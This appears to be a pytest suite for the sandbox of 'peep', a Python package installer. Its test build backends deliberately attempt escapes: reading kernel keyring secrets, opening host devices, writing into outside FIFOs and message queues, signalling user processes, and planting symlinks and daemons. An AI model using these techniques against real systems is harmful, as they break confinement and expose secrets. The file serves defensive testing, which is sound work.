    """The runner reads its spec (network: none) from a file: the build must not write it.

    get_requires_for_build_wheel runs before build_wheel; a process it left
    behind could rewrite the next spec to "closed" between peep writing it
    and the next runner reading it. Each hook is told where its spec is
    (sys.argv[1]); it must be out of the build's reach, as must the reply
    peep reads back, which must not make peep hang (a FIFO) or follow a link.
    """
    code = ATTEMPT + """
import sys
_attempt("spec", lambda: open(sys.argv[1], "r+").close())
"""
    assert confined_build(deploy, "none", code)["spec"] in ("ENOENT", "EROFS")


def test_a_build_that_leaves_a_fifo_for_a_reply_fails_and_peep_does_not_hang(
    deploy: Deploy,
) -> None:
    # At import, in the first hook: the reply becomes a link to a FIFO.
    code = """
import os
_reply = os.path.join(os.path.dirname(os.path.dirname(os.getcwd())), "hook-output.json")
os.mkfifo("fifo")
os.symlink(os.path.abspath("fifo"), _reply)
os._exit(0)
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1
    assert "get_requires_for_build_wheel failed" in result.stderr


def test_a_build_whose_reply_nests_without_end_fails_and_peep_does_not_crash(
    deploy: Deploy,
) -> None:
    """A reply is JSON the build writes: nested deep enough, json's parser ends in RecursionError,
    which must be the hook's failure, not a bug in peep (exit status 3)."""
    code = """
import os
_reply = os.path.join(os.path.dirname(os.path.dirname(os.getcwd())), "hook-output.json")
with open(_reply, "w") as stream:
    stream.write("[" * 200000)
os._exit(0)
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    assert "get_requires_for_build_wheel failed" in result.stderr


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
@pytest.mark.parametrize("place", ["tmp", "wheel"])
def test_a_build_that_leaves_a_link_for_its_own_directory_fails_and_peep_does_not_crash(
    deploy: Deploy, place: str
) -> None:
    """The workspace is the build's to rearrange: a dangling link where peep makes the next
    hook's temporary or wheel directory is that build's failure, not a bug in peep."""
    code = f"""
import os, shutil
_place = os.path.join(os.path.dirname(os.path.dirname(os.getcwd())), {place!r})
if not os.path.islink(_place):
    shutil.rmtree(_place, ignore_errors=True)
    os.symlink("/nonexistent/peep-test", _place)
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    assert "beta-2.0.tar.gz: its workspace is unusable ([Errno 17] File exists: " in result.stderr


# A backend whose build_wheel replaces the wheel it made (or its directory) with a link.
_LINKING_BACKEND = """
class linking:
    get_requires_for_build_wheel = staticmethod(lambda config_settings=None: [])

    @staticmethod
    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
        name = build_wheel(wheel_directory)
        if {directory!r}:
            import shutil
            shutil.rmtree(wheel_directory)
            os.symlink(os.path.dirname({target!r}), wheel_directory)
        else:
            os.remove(os.path.join(wheel_directory, name))
            os.symlink({target!r}, os.path.join(wheel_directory, name))
        return name
"""


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
@pytest.mark.parametrize("target, directory", [
    ("/proc/self/mem", False), ("elsewhere", False), ("elsewhere", True)])
def test_a_built_wheel_is_never_read_through_a_link(
    deploy: Deploy, target: str, directory: bool
) -> None:
    """The wheel a build names is read as the regular file it made, never through a link.

    peep resolves a link where the build cannot look (its own /proc/self/mem: a read error, which
    was a bug in peep), or to a file of the right name that the build did not make, by a link
    in its place or in place of the directory it was made in.
    """
    if target == "elsewhere":
        name, data = wheel_bytes("beta", "2.0")
        target = str(deploy.telltales / name)
        Path(target).write_bytes(data)
    pyproject = ('[build-system]\nrequires = []\nbuild-backend = "fixture_backend:linking"\n'
                 'backend-path = ["."]\n')
    code = _LINKING_BACKEND.format(target=target, directory=directory)
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", pyproject=pyproject, backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    assert ("beta-2.0.tar.gz: build_wheel returned 'beta-2.0-py3-none-any.whl', not a wheel it "
            "made") in result.stderr
    assert deploy.installed() == {}


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
def test_build_network_none_hides_your_tmp_where_peep_runs_in_it(deploy: Deploy) -> None:
    """Under none the build's /tmp is its own, even when peep was started in yours.

    The runner that waits for the hook kept peep's working directory: through its
    /proc/PID/cwd, below the private /tmp, the build read your /tmp, and could write into
    its FIFOs.
    """
    import shutil

    refused = confinement_refused()
    if refused:
        pytest.skip(refused)
    yours = Path(tempfile.mkdtemp(prefix="peep-test-", dir="/tmp"))
    try:
        (yours / "yours.txt").write_text("in your /tmp")
        code = ATTEMPT + """
_parent = int(open("/proc/self/stat").read().rpartition(")")[2].split()[1])
_attempt("through_cwd", lambda: open("/proc/%d/cwd/yours.txt" % _parent).read())
"""
        sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
        deploy.write(block(sdist.data, "beta==2.0"))
        result = deploy.install("--build-network=none", "-v", cwd=yours,
                                env=deploy.env(PEEP_BUILD_ENV=""))
    finally:
        shutil.rmtree(yours, ignore_errors=True)
    assert result.returncode == 0, result.stderr
    assert reports(result.stderr) == {"through_cwd": "ENOENT"}


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_what_real_builds_need_still_works_and_what_none_costs(
    deploy: Deploy, network: str
) -> None:
    """README: the limits are ones real builds survive; under none, forkserver is the cost.

    A process pool (fork), pipes, semaphores in /dev/shm and a temporary
    directory work in both modes; multiprocessing's forkserver listens on
    a Unix socket with a path, which none refuses.
    """
    code = ATTEMPT + f"""
import multiprocessing, resource, tempfile
{report("limits", "[resource.getrlimit(getattr(resource, 'RLIMIT_' + name))"
        " for name in ('CORE', 'FSIZE', 'NOFILE', 'AS', 'NPROC')]")}
def _pool(method):
    with multiprocessing.get_context(method).Pool(2) as pool:
        assert pool.map(abs, [-1, -2]) == [1, 2]
_attempt("fork_pool", lambda: _pool("fork"))
_attempt("forkserver_pool", lambda: _pool("forkserver"))
_attempt("tempfile", lambda: tempfile.NamedTemporaryFile().close())
"""
    found = confined_build(deploy, network, code)
    limits = found.pop("limits")
    assert isinstance(limits, list)
    core, size, files, memory, processes = limits
    assert core == (0, 0) and 0 < size[0] <= 4 << 30 and 0 < files[1] <= 65536
    import resource
    assert (memory, processes) == (resource.getrlimit(resource.RLIMIT_AS),
                                   resource.getrlimit(resource.RLIMIT_NPROC))
    assert found == {"fork_pool": "reached", "tempfile": "reached",
                     "forkserver_pool": "reached" if network == "closed" else "EPERM"}


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
def test_a_build_runs_its_python_again_under_none_where_peeps_python_is_in_tmp(
    deploy: Deploy,
) -> None:
    """The build environment's python links to peep's (Python 3.9 and 3.10 venvs do): in /tmp,
    under the build's private /tmp, it was gone, so a build could not run its own python again
    (a spawned pool, setuptools' subprocesses), and spawned pools failed with EPIPE."""
    refused = confinement_refused()
    if refused:
        pytest.skip(refused)
    import shutil
    from conftest import site_venv

    code = ATTEMPT + """
import multiprocessing, subprocess, sys
def _pool():  # a pool whose workers cannot start waits for ever: not this one
    with multiprocessing.get_context("spawn").Pool(1) as pool:
        assert pool.apply_async(abs, (-1,)).get(timeout=60) == 1
_attempt("python_again", lambda: subprocess.run([sys.executable, "-c", "pass"], check=True))
_attempt("spawn_pool", _pool)
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    place = Path(tempfile.mkdtemp(prefix="peep-test-", dir="/tmp"))
    try:
        result = deploy.install("--build-network=none", "-v", env=deploy.env(PEEP_BUILD_ENV=""),
                                python=site_venv(place / "venv"))
    finally:
        shutil.rmtree(place, ignore_errors=True)
    assert result.returncode == 0, result.stderr
    assert reports(result.stderr) == {"python_again": "reached", "spawn_pool": "reached"}



@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_what_a_build_leaves_running_in_a_session_of_its_own_is_stopped_too(
    deploy: Deploy, network: str
) -> None:
    """A daemon that leaves the build's session (setsid, as daemons do) is stopped all the same.

    Stopping the build's process group misses it: a compiler cache's server,
    or anything a build means to keep, would run on after the hook and peep.
    """
    import signal

    code = f"""
import os, time
_read, _write = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(_write, os.readlink("/proc/self").encode())  # its pid outside any namespace
        time.sleep(600)
    os._exit(0)
os.close(_write)
{report("daemon", "int(os.read(_read, 20))")}"""
    pid = confined_build(deploy, network, code)["daemon"]
    assert isinstance(pid, int)
    try:
        assert wait_for(lambda: not _alive(pid), timeout=30), "the build's daemon outlived peep"
    finally:
        if _alive(pid):
            os.kill(pid, signal.SIGKILL)


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_a_build_under_none_cannot_signal_your_other_processes(
    deploy: Deploy, network: str
) -> None:
    """Under none a build has processes of its own only: yours it cannot stop or kill.

    Under closed it runs as you, with your other processes in reach, as the README says.
    """
    yours = subprocess.Popen(["sleep", "600"])
    try:
        code = ATTEMPT + f"""
import signal
_attempt("signal", lambda: os.kill({yours.pid}, 0))
_attempt("stop", lambda: os.kill({yours.pid}, signal.SIGCONT))
"""
        found = confined_build(deploy, network, code)
        assert yours.poll() is None
    finally:
        yours.kill()
        yours.wait()
    expected = "reached" if network == "closed" else "ESRCH"
    assert found == {"signal": expected, "stop": expected}


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.xfail(strict=True, reason="a read-only mount does not stop writes into a FIFO: "
                   "it takes Landlock (or the like), which peep does not use yet")
def test_build_network_none_cannot_write_into_a_fifo_outside(deploy: Deploy, outside: Path) -> None:
    """A FIFO (a program's control channel, say) carries bytes out as a Unix socket would.

    The file system is read-only under none, but writing into a FIFO changes
    no file: whatever reads it outside gets what the build writes.
    """
    import threading

    fifo = outside / "control"
    os.mkfifo(fifo)
    received = []

    def read() -> None:
        while True:
            with open(fifo, "rb") as stream:  # a writer's end closing ends one read
                received.append(stream.read())

    threading.Thread(target=read, daemon=True).start()
    code = ATTEMPT + f"""
def _into_fifo():
    fd = os.open({str(fifo)!r}, os.O_WRONLY | os.O_NONBLOCK)
    os.write(fd, b"GET /evil/fifo")
    os.close(fd)
_attempt("fifo", _into_fifo)
"""
    confined_build(deploy, "none", code)
    assert not wait_for(lambda: any(received), timeout=5), received


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
def test_build_network_none_leaves_the_build_only_the_devices_builds_use(deploy: Deploy) -> None:
    """A read-only mount does not stop writes to a device: as root, a build could open them all.

    Your disks (writing their blocks is writing the file system), the console
    and your virtual terminals, the kernel log: under none /dev is one of the
    build's own, holding what builds use and nothing else.
    """
    host = sorted(name for name in os.listdir("/dev") if name not in (
        "null", "zero", "full", "random", "urandom", "tty", "fd", "stdin", "stdout", "stderr",
        "ptmx", "pts", "shm"))
    code = ATTEMPT + f"""
for _name in {host!r}:
    _attempt(_name, lambda: os.close(os.open("/dev/" + _name, os.O_WRONLY | os.O_NONBLOCK)))
for _name in ("null", "zero", "full", "urandom", "stdout"):
    _attempt(_name, lambda: os.close(os.open("/dev/" + _name, os.O_WRONLY)))
_attempt("pty", lambda: [os.close(fd) for fd in os.openpty()])
_attempt("shm", lambda: open("/dev/shm/written", "w").close())
"""
    found = confined_build(deploy, "none", code)
    assert {name: found.pop(name) for name in host} == {name: "ENOENT" for name in host}
    assert found == {name: "reached" for name in ("null", "zero", "full", "urandom", "stdout",
                                                   "pty", "shm")}


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
@pytest.mark.parametrize("network", ["closed", "none"])
def test_a_build_cannot_read_your_kernel_keyrings(deploy: Deploy, network: str) -> None:
    """Kernel keyrings (Kerberos tickets, cached passphrases) are in no namespace.

    A key in the session keyring peep inherits is the build's to read, in a
    user namespace too, unless the filter refuses the keyring calls.
    """
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    calls = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
    if calls is None:
        pytest.skip("no seccomp filter on this architecture")
    add_key, keyctl = calls
    # A session keyring of this test's own (KEYCTL_JOIN_SESSION_KEYRING), for peep to inherit.
    if libc.syscall(keyctl, 1, None) < 0 or libc.syscall(
            add_key, b"user", b"peep-test-secret", b"ticket-1b7e", 11, -3) < 0:  # session
        pytest.skip("no kernel keyrings here: " + os.strerror(ctypes.get_errno()))
    code = ATTEMPT + f"""
def _read_key():
    key = _libc.syscall({keyctl}, 10, -3, b"user", b"peep-test-secret", 0)  # KEYCTL_SEARCH
    _check(key)
    buffer = ctypes.create_string_buffer(64)
    _check(_libc.syscall({keyctl}, 11, key, buffer, 64))  # KEYCTL_READ
_attempt("read", _read_key)
"""
    assert confined_build(deploy, network, code) == {"read": "EPERM"}


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
def test_build_network_none_cannot_reach_your_processes_message_queues(deploy: Deploy) -> None:
    """System V message queues (and shared memory) are the IPC namespace's, not the network's.

    A queue a process of yours reads is a way out, as a Unix socket would be:
    under none the build has an IPC namespace of its own, and does not find it.
    """
    import ctypes
    import uuid

    libc = ctypes.CDLL(None, use_errno=True)
    key = uuid.uuid4().int & 0x3FFFFFFF
    queue = libc.msgget(key, 0o1000 | 0o600)  # IPC_CREAT
    if queue < 0:
        pytest.skip("no System V message queues here: " + os.strerror(ctypes.get_errno()))
    try:
        code = ATTEMPT + f"""
def _send():
    queue = _libc.msgget({key}, 0)
    _check(queue)
    message = ctypes.create_string_buffer(b"\\x01\\0\\0\\0\\0\\0\\0\\0GET /evil/queue")
    _check(_libc.msgsnd(queue, message, 14, 0o4000))  # IPC_NOWAIT
_attempt("queue", _send)
"""
        found = confined_build(deploy, "none", code)
        received = ctypes.create_string_buffer(64)
        arrived = libc.msgrcv(queue, received, 56, 0, 0o4000)  # IPC_NOWAIT
    finally:
        libc.msgctl(queue, 0, None)  # IPC_RMID
    assert found == {"queue": "ENOENT"} and arrived < 0


@pytest.mark.skipif(sys.platform != "linux", reason="the confinement under test is Linux's")
def test_a_confinement_step_that_fails_once_root_is_read_only_is_reported(tmp_path: Path) -> None:
    """A step of the confinement fails after / was made read-only: the runner still says why.

    A regular file named as a writable directory is found wrong only once the
    mounts are under way, when the reply file (in /tmp, or read-only) could no
    longer be opened.
    """
    import json

    refused = confinement_refused()
    if refused:
        pytest.skip(refused)
    not_a_directory, output, spec = tmp_path / "file", tmp_path / "reply.json", tmp_path / "spec"
    not_a_directory.write_text("")
    spec.write_text(json.dumps({
        "output": str(output), "network": "none", "hook": None, "kwargs": {}, "readable": [],
        "writable": [str(not_a_directory)], "backend_path": [], "source": str(tmp_path),
        "backend": "",
    }))  # fmt: skip
    status = subprocess.run([sys.executable, "-I", "-S", "-c", peep._HOOK_RUNNER, str(spec)],
                            stdin=subprocess.DEVNULL, capture_output=True).returncode
    with pytest.raises(peep.BuildError) as caught:
        peep._hook_result(None, "", status, str(output), str(tmp_path / "no.log"))
    message = str(caught.value)
    assert message.startswith("--build-network=none cannot isolate builds on this system (")
    assert str(not_a_directory) in message


def test_a_failed_hook_run_never_names_its_hook_none(tmp_path: Path) -> None:
    """The run that only confines (hook None) says so when it fails without a reply."""
    with pytest.raises(peep.BuildError) as caught:
        peep._hook_result(None, "", 1, str(tmp_path / "none.json"), str(tmp_path / "no.log"))
    assert "None" not in str(caught.value) and "(exit status 1)" in str(caught.value)
